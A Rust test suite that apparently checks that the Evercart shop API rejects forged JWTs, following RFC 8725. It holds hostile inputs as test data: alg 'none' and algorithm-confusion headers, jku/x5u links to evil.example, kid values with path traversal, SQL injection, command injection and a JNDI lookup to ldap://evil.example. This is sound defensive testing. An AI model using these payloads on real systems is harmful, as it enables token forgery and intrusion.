//! S3: what RFC 8725 (sections 2 and 3) warns of, tried with the shop's own key wherever that makes
//! the attack stronger.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE};
use serde_json::{Value, json};

use crate::forge::{Target, claims, decode, encode, hs256, hs384, hs512, key_file, signed};

const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

#[test]
fn s3_no_other_algorithm_is_ever_used() {
    let at = Target::new();
    let payload = decode(&at.owner.token, 1);
    let genuine = at.owner.token.rsplit('.').next().expect("a signature");
    for other in [
        "none",
        "None",
        "NONE",
        "nOnE",
        "noNe",
        "none ",
        "",
        "hs256",
        "Hs256",
        "HS256 ",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "ES256",
        "ES384",
        "PS256",
        "EdDSA",
        "A128KW",
        "dir",
        "HMAC",
        "HS2\\u00356",
    ] {
        let header = at.header.replace("HS256", other);
        let head = format!("{}.{}", encode(&header), encode(&payload));
        at.refuses(&format!("{head}."), "token_invalid");
        at.refuses(&head, "token_invalid");
        for signature in [hs256(&at.secret, &head), hs384(&at.secret, &head), Vec::new()] {
            at.refuses(&format!("{head}.{}", encode(signature)), "token_invalid");
        }
        at.refuses(&format!("{head}.{}", encode(hs512(&at.secret, &head))), "token_invalid");
        at.refuses(&format!("{head}.{genuine}"), "token_invalid");
    }
    // Another hash of the right key under the right header, whole and cut to 256 bits.
    let head = format!("{}.{}", encode(&at.header), encode(&payload));
    for mut signature in [hs384(&at.secret, &head), hs512(&at.secret, &head)] {
        at.refuses(&format!("{head}.{}", encode(&signature)), "token_invalid");
        signature.truncate(32);
        at.refuses(&format!("{head}.{}", encode(&signature)), "token_invalid");
    }
    at.is_unharmed();
}

#[test]
fn s3_what_a_header_brings_along_is_never_trusted() {
    let at = Target::new();
    let payload = decode(&at.owner.token, 1);
    let own_key = b"0123456789abcdef0123456789abcdef";
    let jwk = json!({ "kty": "oct", "alg": "HS256", "k": encode(own_key) });
    let (open, rest) = at.header.split_at(1);
    let with = |name: &str, value: &Value| format!("{open}\"{name}\":{value},{rest}");
    let mut headers = vec![
        with("jwk", &jwk),
        with("jku", &json!("https://evil.example/keys.json")),
        with("jku", &json!("http://127.0.0.1:9464/metrics")),
        with("jku", &json!("file:///dev/null")),
        with("x5u", &json!("https://evil.example/cert.pem")),
        with("x5c", &json!(["MIIB"])),
        with("x5t#S256", &json!("AAAA")),
        with("crit", &json!([])),
        with("crit", &json!(["exp"])),
        with("crit", &json!(["http://example.com/UNDEFINED"])),
        with("b64", &json!(false)),
        with("zip", &json!("DEF")),
        with("enc", &json!("A128GCM")),
        with("cty", &json!("JWT")),
        with("alg", &json!("none")),
        with("kid", &json!("another")),
        format!("{},\"alg\":\"none\"}}", at.header.trim_end_matches('}')),
        format!(" {}", at.header),
        format!("{}\n", at.header),
        at.header.replace(',', ", "),
        format!("[{}]", at.header),
        "{}".to_owned(),
        "null".to_owned(),
        String::new(),
    ];
    for typ in ["JWT", "jwt", "AT+JWT", "at+JWT", "application/at+jwt", "at+jwt ", "id+jwt", ""] {
        headers.push(at.header.replace("at+jwt", typ));
    }
    headers.push(at.header.replace("\"typ\":\"at+jwt\",", ""));
    headers.push(at.header.replace("\"at+jwt\"", "null"));
    headers.push(at.header.replace("\"at+jwt\"", "[\"at+jwt\"]"));
    for header in headers {
        assert_ne!(header, at.header, "nothing is forged");
        at.refuses(&signed(&header, &payload, &at.secret), "token_invalid");
        at.refuses(&signed(&header, &payload, own_key), "token_invalid");
    }
    at.is_unharmed();
}

#[test]
fn s3_a_kid_opens_no_file_no_table_and_no_other_key() {
    let at = Target::new();
    let payload = decode(&at.owner.token, 1);
    let kids = [
        json!(""),
        json!(" "),
        json!("../../../../dev/null"),
        json!("/dev/null"),
        json!("/proc/sys/kernel/randomize_va_space"),
        json!("keys.json"),
        json!("file:///dev/null"),
        json!("https://evil.example/key"),
        json!("x' UNION SELECT 'secret' --"),
        json!("'; DROP TABLE users; --"),
        json!(format!("{}' OR '1'='1", at.kid)),
        json!(format!("{}\u{0}", at.kid)),
        json!(format!(" {}", at.kid)),
        json!(at.kid.to_uppercase() + "A"),
        json!("| id"),
        json!("$(id)"),
        json!("${jndi:ldap://evil.example}"),
        json!("%00"),
        json!("\r\nX-Injected: 1"),
        json!("\u{202e}\u{1f511}é"),
        json!("k".repeat(300)),
        json!("k".repeat(20_000)),
        json!([at.kid]),
        json!([]),
        json!({ "kid": at.kid }),
        json!(0),
        json!(-1),
        json!(true),
        json!(null),
    ];
    let own = json!(at.kid).to_string();
    for kid in kids {
        let header = at.header.replace(&own, &kid.to_string());
        assert_ne!(header, at.header, "nothing is forged");
        // The secrets that a file or row found by that name would hold.
        for secret in [&at.secret[..], b"", b"secret", b"0", b"2\n", &[0; 32]] {
            at.refuses(&signed(&header, &payload, secret), "token_invalid");
        }
    }
    let without = at.header.replace(&format!(",\"kid\":{own}"), "");
    assert!(!without.contains("kid"), "{without}");
    at.refuses(&signed(&without, &payload, &at.secret), "token_invalid");
    at.is_unharmed();
}

/// RFC 8725 sections 2.1, 2.2 and 3.5: nothing that anybody can know, and no other key of the shop,
/// signs a token.
#[test]
fn s3_nothing_public_is_a_key() {
    let at = Target::new();
    let payload = decode(&at.owner.token, 1);
    let of_file = |key: &Value| key.as_str().expect("base64").to_owned();
    let file = key_file(&at.shop);
    let code_key = of_file(&file["code_key"]);
    let document = at.shop.get("/openapi.json").send().body;
    // HMAC fills a short key up with zeros (RFC 2104 section 2): what is cut off is none of those.
    let cut = at.secret.iter().rposition(|byte| *byte != 0).expect("a random secret");
    let mut secrets: Vec<Vec<u8>> = vec![
        document,
        STANDARD.decode(&code_key).expect("base64"),
        code_key.into_bytes(),
        of_file(&file["token_keys"][0]["secret"]).into_bytes(),
        encode(&at.secret).into_bytes(),
        at.secret[..cut].to_vec(),
        at.secret.iter().rev().copied().collect(),
        at.header.clone().into_bytes(),
        payload.clone().into_bytes(),
        vec![0; 32],
        vec![0; 64],
    ];
    let words = [&*at.kid, "evercart", "evercart-api", "at+jwt", "secret", "password", "changeme"];
    secrets.extend(words.map(|word| word.as_bytes().to_vec()));
    for secret in secrets {
        at.refuses(&signed(&at.header, &payload, &secret), "token_invalid");
    }
    at.is_unharmed();
}

/// RFC 8725 sections 2.8, 3.8 and 3.9, and RFC 7519 section 4.1, with the right signature.
#[test]
fn s3_every_claim_is_required_and_has_one_meaning() {
    let at = Target::new();
    let genuine = claims(&at.owner.token);
    let iat = genuine["iat"].as_i64().expect("seconds");
    for name in ["user_id", "market", "exp", "iat", "jti", "iss", "aud", "epoch"] {
        let mut without = genuine.clone();
        without.as_object_mut().expect("an object").remove(name).expect("it was there");
        at.refuses(&at.token(&without), "token_invalid");
        for wrong in [json!(null), json!([]), json!({}), json!([genuine[name]]), json!(true)] {
            at.refuses(&at.token_with(name, wrong), "token_invalid");
        }
        // Twice the same, and twice with another value, before and behind.
        let other = if genuine[name].is_string() { json!("x") } else { json!(1) };
        for value in [&genuine[name], &other] {
            let (open, rest) = (&genuine.to_string()[..1], &genuine.to_string()[1..]);
            let before = format!("{open}\"{name}\":{value},{rest}");
            let behind = format!("{open}{},\"{name}\":{value}}}", rest.trim_end_matches('}'));
            for payload in [before, behind] {
                at.refuses(&signed(&at.header, &payload, &at.secret), "token_invalid");
            }
        }
    }
    let far = json!(iat + 100_000_000);
    let mut wrong: Vec<(&str, Value)> = vec![
        ("iss", json!("somebody")),
        ("iss", json!("Evercart")),
        ("iss", json!("evercart ")),
        ("aud", json!("another-api")),
        ("aud", json!("evercart")),
        ("aud", json!(["evercart-api", "another"])),
        ("market", json!("")),
        ("market", json!("US")),
        ("market", json!("../us")),
        ("market", json!("us\u{0}")),
        ("market", json!("u".repeat(100))),
        ("exp", json!((iat + 1800).to_string())),
        ("exp", Value::from(iat as f64 + 1800.5)),
        ("exp", Value::from(iat as f64 + 1800.0)),
        ("exp", json!("2999-01-01T00:00:00Z")),
        ("exp", json!(iat)),
        ("exp", json!(0)),
        // For longer than the shop writes any.
        ("exp", json!(iat + 1801)),
        ("exp", json!(iat + 10 * 365 * 86_400)),
        ("iat", json!(iat - 1)),
        ("iat", far.clone()),
        ("iat", json!(iat + 1000)),
        ("nbf", far),
        ("nbf", json!(iat + 1000)),
        ("nbf", json!("tomorrow")),
        ("user_id", json!(0)),
        ("user_id", json!(at.owner.id.to_string())),
        ("user_id", Value::from(at.owner.id as f64)),
        ("epoch", json!("0")),
        ("jti", json!("")),
    ];
    let numbers = [json!(1e300), json!(u64::MAX), json!(i64::MAX), json!(i64::MIN), json!(-1)];
    for number in &numbers {
        wrong.extend(["exp", "user_id"].map(|name| (name, number.clone())));
    }
    wrong.extend(numbers[..3].iter().map(|number| ("nbf", number.clone())));
    let epochs = numbers.iter().filter(|number| **number != json!(i64::MAX));
    wrong.extend(epochs.map(|number| ("epoch", number.clone())));
    for (name, value) in wrong {
        at.refuses(&at.token_with(name, value), "token_invalid");
    }
    at.is_unharmed();
}

#[test]
fn s3_the_right_key_does_not_help_a_claim_that_the_database_denies() {
    let at = Target::new();
    let genuine = claims(&at.owner.token);
    let epoch = genuine["epoch"].as_i64().expect("a number");
    let iat = genuine["iat"].as_i64().expect("seconds");
    for other in [epoch + 1, epoch + 2, epoch + 1_000_000] {
        at.refuses(&at.token_with("epoch", json!(other)), "signed_out");
    }
    for nobody in [at.owner.id + 1_000_000, 9_007_199_254_740_991] {
        at.refuses(&at.token_with("user_id", json!(nobody)), "token_invalid");
    }
    let mut expired = genuine;
    expired["iat"] = json!(iat - 7200);
    expired["exp"] = json!(iat - 5400);
    let answer = at.shop.get("/cart").token(&at.token(&expired)).send();
    assert_eq!(answer.json()["detail"], "Token expired");
    at.refuses(&at.token(&expired), "token_expired");
    at.is_unharmed();
}

/// A payload that is no object of ours, with the right signature.
#[test]
fn s3_a_payload_that_is_something_else_is_refused() {
    let at = Target::new();
    let genuine = decode(&at.owner.token, 1);
    let nested = format!("{}{}", "[".repeat(300), "]".repeat(300));
    for payload in [
        "",
        " ",
        "null",
        "{}",
        "[]",
        "1",
        "\"x\"",
        &nested,
        &at.owner.token,
        &format!("[{genuine}]"),
        &format!("{genuine}{genuine}"),
        &format!("{genuine}x"),
        &format!("\u{feff}{genuine}"),
        &genuine[..genuine.len() - 1],
        &genuine.replace('"', "'"),
        &genuine.replace("\"user_id\"", "\"User_Id\""),
        &genuine.replace("\"user_id\"", "\"userId\""),
    ] {
        at.refuses(&signed(&at.header, payload, &at.secret), "token_invalid");
    }
    for bytes in [&b"\xff\xfe"[..], b"\x00", b"{\"user_id\":\xc3\x28}"] {
        let head = format!("{}.{}", encode(&at.header), encode(bytes));
        let token = format!("{head}.{}", encode(hs256(&at.secret, &head)));
        at.refuses(&token, "token_invalid");
    }
    at.is_unharmed();
}

/// One token, one spelling: whoever sees another cannot pass it off as new.
#[test]
fn s3_a_token_has_one_spelling() {
    let at = Target::new();
    // With a letter in each part in which the two alphabets of base64 differ.
    let token = (0..10_000)
        .map(|n| at.token_with("jti", json!(format!("~~~???>>>{n}"))))
        .find(|token| token.split('.').skip(1).all(|part| part.contains(['-', '_'])))
        .expect("one of ten thousand");
    assert_eq!(at.shop.get("/cart").token(&token).send().status, 200, "the token itself is good");
    let parts: Vec<&str> = token.split('.').collect();
    let [header, payload, signature] = parts[..] else { panic!("three parts") };
    let join = |parts: [&str; 3]| parts.join(".");
    let raw = |part: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(part);
    let mut spellings = vec![
        token.replace('-', "+").replace('_', "/"),
        format!("{token}="),
        format!("{token}=="),
        format!("{token}."),
        format!(".{token}"),
        format!("{token}A"),
        format!("{token}{token}"),
        format!("{token}.{signature}"),
        format!("{token}.{token}"),
        format!("{token},{token}"),
        format!("{token} {token}"),
        format!("\"{token}\""),
        format!("Bearer {token}"),
        token.replace('.', "%2E"),
        token.replace('.', ".."),
        token.to_lowercase(),
        token.to_uppercase(),
        token.chars().rev().collect(),
        join([payload, header, signature]),
        join([header, payload, ""]),
        join(["", payload, signature]),
        join([header, "", signature]),
        format!("{header}..{payload}.{payload}.{signature}"),
        json!({ "protected": header, "payload": payload, "signature": signature }).to_string(),
        // Hexadecimal, and the other base64s of the same 32 bytes.
        join([header, payload, &hex(&raw(signature).expect("base64url"))]),
    ];
    for part in [header, payload, signature] {
        let bytes = raw(part).expect("base64url");
        for other in
            [URL_SAFE.encode(&bytes), STANDARD.encode(&bytes), STANDARD_NO_PAD.encode(&bytes)]
        {
            if other != part {
                spellings.push(token.replace(part, &other));
            }
        }
    }
    // The signature's last letter carries two bits that mean nothing.
    let last = signature.chars().last().and_then(|c| ALPHABET.find(c)).expect("a letter");
    assert_eq!(last % 4, 0, "43 letters are 258 bits");
    for bits in 1..4 {
        let letter = &ALPHABET[last + bits..=last + bits];
        spellings.push(format!("{}{letter}", &token[..token.len() - 1]));
    }
    for length in (0..token.len()).step_by(7).chain([token.len() - 1]) {
        spellings.push(token[..length].to_owned());
        spellings.push(token[token.len() - length..].to_owned());
    }
    for spelling in spellings.iter().filter(|spelling| !spelling.is_empty()) {
        assert_ne!(*spelling, token);
        at.refuses(spelling, "token_invalid");
    }
    at.is_unharmed();
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}
